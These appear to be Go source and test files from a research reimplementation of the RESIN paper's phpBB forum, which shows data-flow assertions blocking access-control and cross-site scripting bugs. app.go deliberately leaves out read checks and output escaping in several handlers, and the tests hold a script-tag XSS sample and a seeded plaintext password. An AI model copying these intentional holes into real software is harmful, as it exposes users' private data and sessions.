			p.next()
			p.next()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &assignStmt{name: t.text, x: x}, p.expectPunct(";")
		}
	}
	x, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	return &exprStmt{x: x}, p.expectPunct(";")
}

// Expression precedence: || < && < comparison < additive (+ - .) <
// multiplicative (* /) < unary.
func (p *rslParser) parseExpr() (expr, error) { return p.parseOr() }

func (p *rslParser) parseOr() (expr, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.peek().kind == tOp && p.peek().text == "||" {
		p.next()
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = &binExpr{op: "||", l: l, r: r}
	}
	return l, nil
}

func (p *rslParser) parseAnd() (expr, error) {
	l, err := p.parseCmp()
	if err != nil {
		return nil, err
	}
	for p.peek().kind == tOp && p.peek().text == "&&" {
		p.next()
		r, err := p.parseCmp()
		if err != nil {
			return nil, err
		}
		l = &binExpr{op: "&&", l: l, r: r}
	}
	return l, nil
}

func (p *rslParser) parseCmp() (expr, error) {
	l, err := p.parseAdd()
	if err != nil {
		return nil, err
	}
	t := p.peek()
	if t.kind == tOp {
		switch t.text {
		case "==", "!=", "<", "<=", ">", ">=":
			p.next()
			r, err := p.parseAdd()
			if err != nil {
				return nil, err
			}
			return &binExpr{op: t.text, l: l, r: r}, nil
		}
	}
	return l, nil
}

func (p *rslParser) parseAdd() (expr, error) {
	l, err := p.parseMul()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind != tOp || (t.text != "+" && t.text != "-" && t.text != ".") {
			return l, nil
		}
		p.next()
		r, err := p.parseMul()
		if err != nil {
			return nil, err
		}
		l = &binExpr{op: t.text, l: l, r: r}
	}
}

func (p *rslParser) parseMul() (expr, error) {
	l, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind != tOp || (t.text != "*" && t.text != "/") {
			return l, nil
		}
		p.next()
		r, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		l = &binExpr{op: t.text, l: l, r: r}
	}
}

func (p *rslParser) parseUnary() (expr, error) {
	t := p.peek()
	if t.kind == tOp && t.text == "!" {
		p.next()
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &notExpr{x: x}, nil
	}
	return p.parsePrimary()
}

func (p *rslParser) parsePrimary() (expr, error) {
	t := p.peek()
	switch {
	case t.kind == tString:
		p.next()
		return &strLit{v: t.val}, nil
	case t.kind == tNumber:
		p.next()
		v, err := strconv.ParseInt(t.text, 10, 64)
		if err != nil {
			return nil, p.errf("bad number %q", t.text)
		}
		return &numLit{v: v}, nil
	case t.kind == tKeyword && (t.text == "true" || t.text == "false"):
		p.next()
		return &boolLit{v: t.text == "true"}, nil
	case t.kind == tIdent:
		p.next()
		if n := p.peek(); n.kind == tPunct && n.text == "(" {
			p.next()
			var args []expr
			for {
				if a := p.peek(); a.kind == tPunct && a.text == ")" {
					p.next()
					break
				}
				x, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				args = append(args, x)
				if c := p.peek(); c.kind == tPunct && c.text == "," {
					p.next()
				}
			}
			return &callExpr{name: t.text, args: args}, nil
		}
		return &varRef{name: t.text}, nil
	case t.kind == tPunct && t.text == "(":
		p.next()
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return x, p.expectPunct(")")
	default:
		return nil, p.errf("unexpected %q in expression", t.text)
	}
}
