package forum

import (
	"strings"
	"testing"

	"resin/internal/core"
)

type attackFn func(bool) (bool, error)

func checkAttack(t *testing.T, name string, fn attackFn) {
	t.Helper()
	leaked, _ := fn(false)
	if !leaked {
		t.Errorf("%s: the vulnerability must exist without assertions", name)
	}
	leaked, blockErr := fn(true)
	if leaked {
		t.Errorf("%s: assertion failed to stop the attack", name)
	}
	if blockErr == nil {
		t.Errorf("%s: attack should be blocked by an assertion error", name)
	}
}

func TestReadAccessAttacks(t *testing.T) {
	checkAttack(t, "printview", AttackPrintView)
	checkAttack(t, "reply-quote", AttackReplyQuote)
	checkAttack(t, "plugin-latest", AttackPluginLatest)
	checkAttack(t, "plugin-search", AttackPluginSearch)
}

func TestXSSAttacks(t *testing.T) {
	checkAttack(t, "signature", AttackSignatureXSS)
	checkAttack(t, "whois", AttackWhoisXSS)
	checkAttack(t, "search-echo", AttackSearchEchoXSS)
	checkAttack(t, "subject", AttackSubjectXSS)
}

func TestReadAccessBlockedByMessagePolicy(t *testing.T) {
	_, blockErr := AttackReplyQuote(true)
	ae, ok := core.IsAssertionError(blockErr)
	if !ok {
		t.Fatalf("block error = %v", blockErr)
	}
	if _, ok := ae.Policy.(*MessagePolicy); !ok {
		t.Errorf("blocking policy = %T, want MessagePolicy", ae.Policy)
	}
}

func TestLegitimateFlows(t *testing.T) {
	for _, on := range []bool{false, true} {
		ok, err := LegitimateTopicView(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: topic view ok=%v err=%v", on, ok, err)
		}
		ok, err = LegitimateStaffView(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: staff view ok=%v err=%v", on, ok, err)
		}
	}
}

func TestMessagePolicyPersistsThroughDB(t *testing.T) {
	a, _ := newInstance(true)
	res, err := a.DB.QueryRaw("SELECT body FROM messages WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	body := res.Get(0, "body").Str
	found := false
	for _, p := range body.Policies().Policies() {
		if mp, ok := p.(*MessagePolicy); ok {
			found = true
			if len(mp.Readers) != 2 || mp.Readers[0] != "admin" {
				t.Errorf("readers = %v", mp.Readers)
			}
		}
	}
	if !found {
		t.Error("staff message must carry MessagePolicy after DB round trip")
	}
}

func TestDirectACLChecksStillWork(t *testing.T) {
	a, _ := newInstance(false)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/topic", map[string]string{"forum": "2"}, mallory)
	if err == nil || resp.Status != 403 {
		t.Errorf("direct staff topic read should 403: %v %d", err, resp.Status)
	}
	if resp, err := a.Server.Do("GET", "/post",
		map[string]string{"forum": "2", "subject": "s", "body": "b"}, mallory); err == nil || resp.Status != 403 {
		t.Error("posting to staff forum should 403")
	}
}

func TestBadRequests(t *testing.T) {
	a, _ := newInstance(true)
	s := a.Server.NewSession("mallory")
	cases := []struct {
		path   string
		params map[string]string
		status int
	}{
		{"/topic", map[string]string{"forum": "zz"}, 400},
		{"/topic", map[string]string{"forum": "99"}, 404},
		{"/viewpost", map[string]string{"msg": "99"}, 404},
		{"/printview", map[string]string{"msg": "bad"}, 400},
		{"/profile", map[string]string{"user": "ghost"}, 404},
		{"/whois", map[string]string{"ip": "0.0.0.0"}, 404},
	}
	for _, c := range cases {
		resp, err := a.Server.Do("GET", c.path, c.params, s)
		if err == nil || resp.Status != c.status {
			t.Errorf("%s %v: err=%v status=%d want %d", c.path, c.params, err, resp.Status, c.status)
		}
	}
}

func TestEscapedRenderingPassesXSSFilter(t *testing.T) {
	// The topic view escapes the stored script; the page renders inert
	// text and the filter is satisfied.
	a, _ := newInstance(true)
	mallory := a.Server.NewSession("mallory")
	if _, err := a.Server.Do("GET", "/post",
		map[string]string{"forum": "1", "subject": "s", "body": xssPayload}, mallory); err != nil {
		t.Fatal(err)
	}
	victim := a.Server.NewSession("victim")
	resp, err := a.Server.Do("GET", "/topic", map[string]string{"forum": "1"}, victim)
	if err != nil {
		t.Fatalf("escaped topic view must pass: %v", err)
	}
	if strings.Contains(resp.RawBody(), "<script>") {
		t.Error("raw script leaked")
	}
	if !strings.Contains(resp.RawBody(), "&lt;script&gt;") {
		t.Error("escaped script missing")
	}
}

func TestAssertionSourceEmbedded(t *testing.T) {
	for _, marker := range []string{"phpbb-read-access", "phpbb-xss"} {
		if !strings.Contains(AssertionSource, "BEGIN ASSERTION: "+marker) {
			t.Errorf("missing marker %s", marker)
		}
	}
}
