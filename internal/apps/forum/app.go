// Package forum re-implements the phpBB slice the RESIN paper evaluates:
// forums with per-forum read ACLs and messages rendered through many
// paths. It contains the Table 4 vulnerabilities:
//
//   - missing read access checks (1 previously known + 3 newly discovered,
//     all prevented by one 23-LoC assertion): a printer-friendly view that
//     forgot its check, the §6.3 reply-quote path, and two third-party
//     plugins ("latest posts" and search) written without knowledge of the
//     access rules;
//
//   - cross-site scripting (4 previously known, prevented by one 22-LoC
//     assertion): raw signature rendering, the §6.3 whois path, a search
//     page echoing the query, and a post view rendering subjects raw.
package forum

import (
	"fmt"
	"strconv"
	"strings"
	"sync"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/sqldb"
	"resin/internal/whois"
)

// Forum is a seeded forum board.
type Forum struct {
	ID      int
	Name    string
	Readers []string // user names; "*" = everyone
}

// Message is a seeded post.
type Message struct {
	ID      int
	Forum   int
	Author  string
	Subject string
	Body    string
}

// App is one forum instance.
type App struct {
	RT     *core.Runtime
	DB     *sqldb.DB
	Server *httpd.Server
	Whois  *whois.Client

	mu     sync.Mutex
	nextID int

	assertions bool

	// Prepared statements for the hot paths (docs/SQL.md §6): user
	// input binds as values into `?` slots, so none of these can be
	// reshaped by it — the remaining Table 4 bugs in this app are
	// access-control and XSS bugs, which binding does not paper over.
	insForum   *sqldb.Stmt
	selReaders *sqldb.Stmt
	insMessage *sqldb.Stmt
	selMessage *sqldb.Stmt
	selTopic   *sqldb.Stmt
	insUser    *sqldb.Stmt
	updSig     *sqldb.Stmt
	selSig     *sqldb.Stmt
	selSearch  *sqldb.Stmt
}

// New builds a forum over rt: schema, seed data, and handlers (including
// the vulnerable plugins). whoisSrv is the external whois service the
// /whois page queries.
func New(rt *core.Runtime, whoisSrv *whois.Server, withAssertions bool) *App {
	return NewWithDB(rt, whoisSrv, withAssertions, sqldb.Open(rt))
}

// NewWithDB is New over a caller-supplied database — in particular a
// WAL-backed one from sqldb.OpenDB, so a forum can restart from its
// persisted state (messages, signatures, and the shadow policy columns
// carrying MessagePolicy/UntrustedData annotations all survive). A
// database that already holds the schema skips creation and seeding and
// resumes the message-id counter from the stored messages.
func NewWithDB(rt *core.Runtime, whoisSrv *whois.Server, withAssertions bool, db *sqldb.DB) *App {
	a := &App{
		RT:         rt,
		DB:         db,
		Server:     httpd.NewServer(rt),
		Whois:      whois.NewClient(rt, whoisSrv),
		assertions: withAssertions,
	}
	// Schema setup is idempotent per table/index rather than gated on an
	// all-or-nothing freshness probe: with a WAL-backed database each
	// statement is durable on its own, so a crash mid-setup leaves a
	// partial schema on disk — the next boot must fill in what is
	// missing, not skip creation (or it would panic preparing statements
	// against absent tables). Point lookups dominate (forum ACLs by id,
	// message listings by forum, signatures by user name), hence the
	// indexes; messages additionally index id so the probe-free
	// ORDER BY id listings — search, the latest-posts plugin, the
	// restart id probe — run as ordered-index traversals with the
	// post-filter sort pushed down (docs/SQL.md §4). Topic pages keep
	// their forum-bucket probe and sort the handful of rows it yields.
	ensureSchema(a.DB)

	a.insForum = a.DB.MustPrepare("INSERT INTO forums (id, name, readers) VALUES (?, ?, ?)")
	a.selReaders = a.DB.MustPrepare("SELECT readers FROM forums WHERE id = ?")
	a.insMessage = a.DB.MustPrepare("INSERT INTO messages (id, forum, author, subject, body) VALUES (?, ?, ?, ?, ?)")
	a.selMessage = a.DB.MustPrepare("SELECT forum, author, subject, body FROM messages WHERE id = ?")
	a.selTopic = a.DB.MustPrepare("SELECT subject, body, author FROM messages WHERE forum = ? ORDER BY id")
	a.insUser = a.DB.MustPrepare("INSERT INTO users (name, signature) VALUES (?, '')")
	a.updSig = a.DB.MustPrepare("UPDATE users SET signature = ? WHERE name = ?")
	a.selSig = a.DB.MustPrepare("SELECT signature FROM users WHERE name = ?")
	a.selSearch = a.DB.MustPrepare("SELECT subject, body FROM messages WHERE body LIKE ? ORDER BY id")

	if withAssertions {
		a.enableXSSAssertion()
	}

	// Seeding is likewise self-healing: empty tables get their seed rows
	// whether the database is brand new or recovered from a boot that
	// crashed between schema and seeds; populated tables resume as-is.
	if empty(a.DB, "forums") {
		for _, f := range []Forum{
			{ID: 1, Name: "general", Readers: []string{"*"}},
			{ID: 2, Name: "staff", Readers: []string{"admin", "mod"}},
		} {
			a.AddForum(f)
		}
	}
	if empty(a.DB, "messages") {
		a.seedMessage(Message{Forum: 1, Author: "admin", Subject: "welcome", Body: "welcome to the board"})
		a.seedMessage(Message{Forum: 2, Author: "admin", Subject: "ops",
			Body: "the staff backup password is root123"})
	} else {
		// Recovered state: resume the id counter past the stored messages.
		if res, err := a.DB.QueryRaw("SELECT id FROM messages ORDER BY id DESC LIMIT 1"); err == nil && res.Len() > 0 {
			a.nextID = int(res.Get(0, "id").Int.Value())
		}
	}

	a.Server.Handle("/register", a.handleRegister)
	a.Server.Handle("/setsig", a.handleSetSig)
	a.Server.Handle("/post", a.handlePost)
	a.Server.Handle("/topic", a.handleTopic)
	a.Server.Handle("/viewpost", a.handleViewPost)
	a.Server.Handle("/reply", a.handleReply)
	a.Server.Handle("/printview", a.handlePrintView)
	a.Server.Handle("/profile", a.handleProfile)
	a.Server.Handle("/whois", a.handleWhois)
	a.Server.Handle("/plugin/latest", a.pluginLatest)
	a.Server.Handle("/plugin/search", a.pluginSearch)
	a.Server.Handle("/audit", httpd.AuditHandler(a.resolveAudit))
	return a
}

// resolveAudit backs the /audit endpoint: ?msg=N audits the message's
// body — "show every boundary this message crossed".
func (a *App) resolveAudit(req *httpd.Request) (core.String, string, error) {
	id, err := intParam(req, "msg")
	if err != nil {
		return core.String{}, "", fmt.Errorf("forum: bad msg id %q", req.ParamRaw("msg"))
	}
	_, _, _, body, err := a.fetchMessage(id)
	if err != nil {
		return core.String{}, "", err
	}
	return body, fmt.Sprintf("message #%d body", id), nil
}

// ensureSchema creates the forum tables and their indexes only where
// missing, so boot is safe to repeat over any partial state a crash
// left behind. The DDL text is constant and index creation goes
// through sqldb.EnsureIndex, so vet can prove no identifier is ever
// concatenated into dialect text.
func ensureSchema(db *sqldb.DB) {
	if !db.HasTable("users") {
		db.MustExec("CREATE TABLE users (name TEXT, signature TEXT)")
	}
	if !db.HasTable("forums") {
		db.MustExec("CREATE TABLE forums (id INT, name TEXT, readers TEXT)")
	}
	if !db.HasTable("messages") {
		db.MustExec("CREATE TABLE messages (id INT, forum INT, author TEXT, subject TEXT, body TEXT)")
	}
	for _, ix := range []struct{ table, col string }{
		{"users", "name"}, {"forums", "id"}, {"messages", "forum"}, {"messages", "id"},
	} {
		if err := db.EnsureIndex(ix.table, ix.col); err != nil {
			panic(fmt.Sprintf("forum: schema: %v", err))
		}
	}
}

// empty reports whether a table has no rows.
func empty(db *sqldb.DB, table string) bool {
	isEmpty, err := db.TableEmpty(table)
	return err == nil && isEmpty
}

// AddForum stores a forum definition.
func (a *App) AddForum(f Forum) {
	if _, err := a.insForum.Exec(f.ID, f.Name, strings.Join(f.Readers, ",")); err != nil {
		panic(fmt.Sprintf("forum: seed forum: %v", err))
	}
}

// forumReaders returns a forum's reader list.
func (a *App) forumReaders(id int) ([]string, error) {
	res, err := a.selReaders.Query(id)
	if err != nil {
		return nil, err
	}
	if res.Len() == 0 {
		return nil, fmt.Errorf("forum: no forum %d", id)
	}
	return strings.Split(res.Get(0, "readers").Str.Raw(), ","), nil
}

func mayRead(readers []string, user string) bool {
	for _, r := range readers {
		if r == "*" || r == user {
			return true
		}
	}
	return false
}

// storeMessage inserts a message; with assertions on, subject and body are
// annotated with a MessagePolicy carrying the forum's reader list, which
// the SQL filter persists (so every later fetch gets the policy back, no
// matter which code path fetches it).
func (a *App) storeMessage(m Message, subject, body core.String) (int, error) {
	a.mu.Lock()
	a.nextID++
	id := a.nextID
	a.mu.Unlock()
	if a.assertions {
		readers, err := a.forumReaders(m.Forum)
		if err != nil {
			return 0, err
		}
		mp := &MessagePolicy{Readers: readers}
		subject = a.RT.PolicyAdd(subject, mp)
		body = a.RT.PolicyAdd(body, mp)
	}
	if _, err := a.insMessage.Exec(id, m.Forum, m.Author, subject, body); err != nil {
		return 0, err
	}
	return id, nil
}

func (a *App) seedMessage(m Message) {
	if _, err := a.storeMessage(m, core.NewString(m.Subject), core.NewString(m.Body)); err != nil {
		panic(fmt.Sprintf("forum: seed message: %v", err))
	}
}

// fetchMessage returns (forum, author, subject, body) for a message id.
func (a *App) fetchMessage(id int) (int, string, core.String, core.String, error) {
	res, err := a.selMessage.Query(id)
	if err != nil {
		return 0, "", core.String{}, core.String{}, err
	}
	if res.Len() == 0 {
		return 0, "", core.String{}, core.String{}, fmt.Errorf("forum: no message %d", id)
	}
	return int(res.Get(0, "forum").Int.Value()), res.Get(0, "author").Str.Raw(),
		res.Get(0, "subject").Str, res.Get(0, "body").Str, nil
}

func annotate(req *httpd.Request, resp *httpd.Response) string {
	user := ""
	if req.Session != nil {
		user = req.Session.User
	}
	resp.Channel().Context().Set("user", user)
	return user
}

func intParam(req *httpd.Request, name string) (int, error) {
	return strconv.Atoi(req.ParamRaw(name))
}

// handleRegister creates an account.
func (a *App) handleRegister(req *httpd.Request, resp *httpd.Response) error {
	// The (tainted) name binds as a value; no quoting call needed.
	if _, err := a.insUser.Exec(req.Param("name")); err != nil {
		return err
	}
	return resp.WriteRaw("registered")
}

// handleSetSig stores the session user's signature (tainted input,
// persisted with its taint).
func (a *App) handleSetSig(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	if _, err := a.updSig.Exec(req.Param("sig"), user); err != nil {
		return err
	}
	return resp.WriteRaw("saved")
}

// handlePost stores a new message after a CORRECT access check.
func (a *App) handlePost(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	forumID, err := intParam(req, "forum")
	if err != nil {
		resp.Status = 400
		return err
	}
	readers, err := a.forumReaders(forumID)
	if err != nil {
		resp.Status = 404
		return err
	}
	if !mayRead(readers, user) {
		resp.Status = 403
		return fmt.Errorf("forum: %s may not post to forum %d", user, forumID)
	}
	id, err := a.storeMessage(Message{Forum: forumID, Author: user},
		req.Param("subject"), req.Param("body"))
	if err != nil {
		return err
	}
	return resp.WriteRaw("posted #" + strconv.Itoa(id))
}

// handleTopic lists a forum's messages after a CORRECT access check,
// escaping everything it renders.
func (a *App) handleTopic(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	forumID, err := intParam(req, "forum")
	if err != nil {
		resp.Status = 400
		return err
	}
	readers, err := a.forumReaders(forumID)
	if err != nil {
		resp.Status = 404
		return err
	}
	if !mayRead(readers, user) {
		resp.Status = 403
		return fmt.Errorf("forum: %s may not read forum %d", user, forumID)
	}
	res, err := a.selTopic.Query(forumID)
	if err != nil {
		return err
	}
	resp.WriteRaw("<html><body>")
	for i := 0; i < res.Len(); i++ {
		out := core.Format("<div><h2>%s</h2><p>%s</p><i>by %s</i></div>\n",
			sanitize.HTMLEscape(res.Get(i, "subject").Str),
			sanitize.HTMLEscape(res.Get(i, "body").Str),
			sanitize.HTMLEscape(res.Get(i, "author").Str))
		if werr := resp.Write(out); werr != nil {
			return werr
		}
	}
	resp.WriteRaw("</body></html>")
	return nil
}

// handleViewPost shows one message with a CORRECT access check — but it
// renders the subject unescaped (known XSS #4).
func (a *App) handleViewPost(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	id, err := intParam(req, "msg")
	if err != nil {
		resp.Status = 400
		return err
	}
	forumID, author, subject, body, err := a.fetchMessage(id)
	if err != nil {
		resp.Status = 404
		return err
	}
	readers, err := a.forumReaders(forumID)
	if err != nil {
		return err
	}
	if !mayRead(readers, user) {
		resp.Status = 403
		return fmt.Errorf("forum: %s may not read message %d", user, id)
	}
	// BUG (XSS): subject is rendered without escaping.
	if werr := resp.Write(core.Format("<h2>%s</h2>", subject)); werr != nil {
		return werr
	}
	return resp.Write(core.Format("<p>%s</p><i>by %s</i>",
		sanitize.HTMLEscape(body), sanitize.HTMLEscape(core.NewString(author))))
}

// handleReply is the §6.3 reply-quote bug: it quotes the original message
// into the reply form WITHOUT checking that the replier may read it.
func (a *App) handleReply(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	id, err := intParam(req, "msg")
	if err != nil {
		resp.Status = 400
		return err
	}
	_, author, subject, body, err := a.fetchMessage(id)
	if err != nil {
		resp.Status = 404
		return err
	}
	// BUG: no access check on the quoted original.
	quoted := core.Format("<form><textarea>[quote=%s] %s [/quote]</textarea></form>",
		sanitize.HTMLEscape(core.NewString(author)), sanitize.HTMLEscape(body))
	if werr := resp.Write(core.Format("<h2>Re: %s</h2>", sanitize.HTMLEscape(subject))); werr != nil {
		return werr
	}
	return resp.Write(quoted)
}

// handlePrintView is the previously-known CVE-style bug: the
// printer-friendly view forgot the access check entirely.
func (a *App) handlePrintView(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	id, err := intParam(req, "msg")
	if err != nil {
		resp.Status = 400
		return err
	}
	_, author, subject, body, err := a.fetchMessage(id)
	if err != nil {
		resp.Status = 404
		return err
	}
	// BUG: no access check at all.
	return resp.Write(core.Format("<pre>%s\n%s\n-- %s</pre>",
		sanitize.HTMLEscape(subject), sanitize.HTMLEscape(body),
		sanitize.HTMLEscape(core.NewString(author))))
}

// handleProfile renders a user's profile — with the signature unescaped
// (known XSS #1).
func (a *App) handleProfile(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	res, err := a.selSig.Query(req.Param("user"))
	if err != nil {
		return err
	}
	if res.Len() == 0 {
		resp.Status = 404
		return fmt.Errorf("forum: no user %q", req.ParamRaw("user"))
	}
	// BUG (XSS): signature rendered raw.
	return resp.Write(core.Format("<div class=\"sig\">%s</div>", res.Get(0, "signature").Str))
}

// handleWhois is the §6.3 unusual XSS path: the whois response is
// incorporated into HTML without sanitization.
func (a *App) handleWhois(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	rec, err := a.Whois.Lookup(req.ParamRaw("ip"))
	if err != nil {
		resp.Status = 404
		return err
	}
	// BUG (XSS): whois data rendered raw.
	return resp.Write(core.Format("<pre>%s</pre>", rec))
}

// pluginLatest is a third-party plugin (discovered bug): it shows recent
// posts across ALL forums, with no per-forum access checks. The plugin
// author did escape the output — the bug is access control, not XSS.
func (a *App) pluginLatest(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	res, err := a.DB.Query(core.NewString(
		"SELECT subject, body FROM messages ORDER BY id DESC LIMIT 5"))
	if err != nil {
		return err
	}
	resp.WriteRaw("<ul>")
	for i := 0; i < res.Len(); i++ {
		// BUG: no access check on which forum each message belongs to.
		out := core.Format("<li>%s: %s</li>",
			sanitize.HTMLEscape(res.Get(i, "subject").Str),
			sanitize.HTMLEscape(res.Get(i, "body").Str))
		if werr := resp.Write(out); werr != nil {
			return werr
		}
	}
	resp.WriteRaw("</ul>")
	return nil
}

// pluginSearch is another third-party plugin with two bugs: it searches
// all forums regardless of access (discovered), and it echoes the query
// unescaped (known XSS #3).
func (a *App) pluginSearch(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	q := req.Param("q")
	// BUG (XSS): query echoed raw.
	if werr := resp.Write(core.Format("<h2>Results for %s</h2>", q)); werr != nil {
		return werr
	}
	res, err := a.selSearch.Query(core.Concat(core.NewString("%"), q, core.NewString("%")))
	if err != nil {
		return err
	}
	for i := 0; i < res.Len(); i++ {
		// BUG: no access check on matched messages.
		out := core.Format("<div>%s: %s</div>",
			sanitize.HTMLEscape(res.Get(i, "subject").Str),
			sanitize.HTMLEscape(res.Get(i, "body").Str))
		if werr := resp.Write(out); werr != nil {
			return werr
		}
	}
	return nil
}
