package forum

import (
	"path/filepath"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
	"resin/internal/sqldb"
	"resin/internal/whois"
)

// TestForumBootsFromPersistedDB restarts the forum from a WAL-backed
// database: messages stored before the restart — including the
// MessagePolicy annotations the SQL filter persisted into shadow policy
// columns, and the UntrustedData taint on a user-supplied signature —
// come back with their policies, the id counter resumes past the stored
// messages, and the read-ACL assertion keeps enforcing reader lists it
// learned entirely from recovered state.
func TestForumBootsFromPersistedDB(t *testing.T) {
	path := filepath.Join(t.TempDir(), "forum.wal")
	rt := core.NewRuntime()
	ws := whois.NewServer()

	db, err := sqldb.OpenDB(rt, path)
	if err != nil {
		t.Fatal(err)
	}
	app := NewWithDB(rt, ws, true, db)
	secretID, err := app.storeMessage(Message{Forum: 2, Author: "admin"},
		core.NewString("q3 plans"), core.NewString("the staff-only roadmap"))
	if err != nil {
		t.Fatal(err)
	}
	sig := sanitize.Taint(core.NewString("<script>alert(1)</script>"), "form:sig")
	if _, err := app.insUser.Exec(core.NewString("admin")); err != nil {
		t.Fatal(err)
	}
	if _, err := app.updSig.Exec(sig, "admin"); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	// Restart: a fresh runtime and a recovered database; NewWithDB must
	// skip schema creation and seeding and resume the id counter.
	rt2 := core.NewRuntime()
	db2, err := sqldb.OpenDB(rt2, path)
	if err != nil {
		t.Fatal(err)
	}
	defer db2.Close()
	app2 := NewWithDB(rt2, ws, true, db2)

	_, _, subject, body, err := app2.fetchMessage(secretID)
	if err != nil {
		t.Fatal(err)
	}
	if subject.Raw() != "q3 plans" || body.Raw() != "the staff-only roadmap" {
		t.Fatalf("recovered message = %q / %q", subject.Raw(), body.Raw())
	}
	var mp *MessagePolicy
	for _, p := range body.Policies().Policies() {
		if m, ok := p.(*MessagePolicy); ok {
			mp = m
		}
	}
	if mp == nil {
		t.Fatalf("recovered body lost its MessagePolicy: %s", body.Describe())
	}
	if len(mp.Readers) != 2 || mp.Readers[0] != "admin" || mp.Readers[1] != "mod" {
		t.Errorf("recovered reader list = %v, want [admin mod]", mp.Readers)
	}

	res, err := app2.selSig.Query("admin")
	if err != nil || res.Len() != 1 {
		t.Fatalf("signature lookup after restart: %d rows, %v", res.Len(), err)
	}
	recovered := res.Get(0, "signature").Str
	start, _, found := recovered.FindPolicy(sanitize.IsUntrusted)
	if !found || start != 0 {
		t.Errorf("recovered signature lost its taint: %s", recovered.Describe())
	}

	// The id counter resumed: a new post gets a fresh id, not a reused one.
	newID, err := app2.storeMessage(Message{Forum: 1, Author: "admin"},
		core.NewString("after restart"), core.NewString("still here"))
	if err != nil {
		t.Fatal(err)
	}
	if newID <= secretID {
		t.Errorf("post-restart id %d did not resume past %d", newID, secretID)
	}
}

// TestForumRecoversFromPartialBoot: a crash between the schema
// statements of a first boot leaves some tables missing; the next boot
// must fill in the rest and seed, not panic preparing statements
// against absent tables.
func TestForumRecoversFromPartialBoot(t *testing.T) {
	path := filepath.Join(t.TempDir(), "partial.wal")
	rt := core.NewRuntime()
	db, err := sqldb.OpenDB(rt, path)
	if err != nil {
		t.Fatal(err)
	}
	// Simulate the crash window: only the first schema statement landed.
	db.MustExec("CREATE TABLE users (name TEXT, signature TEXT)")
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2, err := sqldb.OpenDB(rt, path)
	if err != nil {
		t.Fatal(err)
	}
	defer db2.Close()
	app := NewWithDB(rt, whois.NewServer(), true, db2) // must not panic
	res, err := app.selReaders.Query(1)
	if err != nil || res.Len() != 1 {
		t.Fatalf("seeded forum 1 after partial boot: %d rows, %v", res.Len(), err)
	}
	if _, err := app.storeMessage(Message{Forum: 1, Author: "admin"},
		core.NewString("healed"), core.NewString("boot completed")); err != nil {
		t.Fatal(err)
	}
}
