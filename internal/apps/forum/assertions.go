package forum

// The RESIN data flow assertions for phpBB (Table 4):
//
//   - the read-access assertion (23 LoC in the paper) prevents one
//     previously-known missing check and three newly discovered ones, all
//     through one policy object attached where messages are stored;
//
//   - the cross-site scripting assertion (22 LoC in the paper): inputs are
//     tainted at the boundary, the application's existing escaping
//     function marks data HTMLSanitized, and the HTML output filter
//     rejects tainted-but-unsanitized output. phpBB is 172,000 lines; the
//     assertion does not grow with it.

import (
	_ "embed"
	"fmt"

	"resin/internal/core"
	"resin/internal/httpd"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: phpbb-read-access

// MessagePolicy guards a forum message: it carries a copy of the forum's
// reader list at posting time and matches the output channel's user
// against it — on every path the message can take out of the application,
// including paths added later by plugin authors who never heard of the
// access rules.
type MessagePolicy struct {
	Readers []string `json:"readers"`
}

// ExportCheck implements the forum read ACL.
func (p *MessagePolicy) ExportCheck(ctx *core.Context) error {
	user, _ := ctx.GetString("user")
	if mayRead(p.Readers, user) {
		return nil
	}
	return fmt.Errorf("insufficient access to forum message")
}

// END ASSERTION

// BEGIN ASSERTION: phpbb-xss

// enableXSSAssertion installs the §5.3 strategy-1 cross-site scripting
// assertion: any character of HTML output that carries UntrustedData but
// not HTMLSanitized aborts the response. Inputs are already tainted by
// the HTTP substrate and the whois client; the existing escaping function
// (sanitize.HTMLEscape) already appends the HTMLSanitized marker.
func (a *App) enableXSSAssertion() {
	a.Server.AddBodyFilter(&httpd.XSSFilter{RequireSanitizedMarkers: true})
}

// END ASSERTION

func init() {
	core.RegisterPolicyClass("forum.MessagePolicy", &MessagePolicy{})
}
