package forum

import (
	"strings"

	"resin/internal/core"
	"resin/internal/whois"
)

const staffSecret = "root123"

// newInstance builds a forum (plus its whois service) for an attack run.
func newInstance(withAssertions bool) (*App, *whois.Server) {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	ws := whois.NewServer()
	return New(rt, ws, withAssertions), ws
}

// blockedBy extracts the assertion error, if any.
func blockedBy(err error) error {
	if err == nil {
		return nil
	}
	if _, ok := core.IsAssertionError(err); ok {
		return err
	}
	return nil
}

// --- Missing read access checks (1 known + 3 discovered) ---

// AttackPrintView: the previously-known CVE-shape bug — the
// printer-friendly view forgot the access check.
